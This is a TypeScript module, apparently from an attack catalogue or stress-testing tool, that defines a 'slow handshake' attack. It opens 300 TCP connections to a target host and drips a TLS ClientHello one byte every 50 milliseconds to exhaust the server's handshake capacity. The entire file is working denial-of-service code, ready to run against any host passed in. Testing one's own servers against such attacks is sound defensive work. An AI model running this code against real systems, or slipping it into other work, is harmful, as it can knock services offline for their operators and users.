// A handshake byte by byte.

import type { Attack } from '../attack.ts'
import { clientHello } from '../wire/client-hello.ts'
import { attackConnections } from '../wire/connections.ts'

export const attack: Attack = {
  reference: 'slow handshake',
  does: 'sends a ClientHello byte by byte, on 300 connections',
  who: ['unknown'],
  answers: [],
  run: async (target, signal) => {
    const hello = await clientHello(target.host)
    await attackConnections(target, signal, { connections: 300, transport: 'tcp' }, (wire) => {
      let at = 0
      const timer = setInterval(() => wire.more(), 50)
      wire.socket.once('close', () => clearInterval(timer))
      return { next: () => (at % 2 === 0 ? hello.subarray(at / 2, at++ / 2 + 1) : void at++) }
    })
  },
}
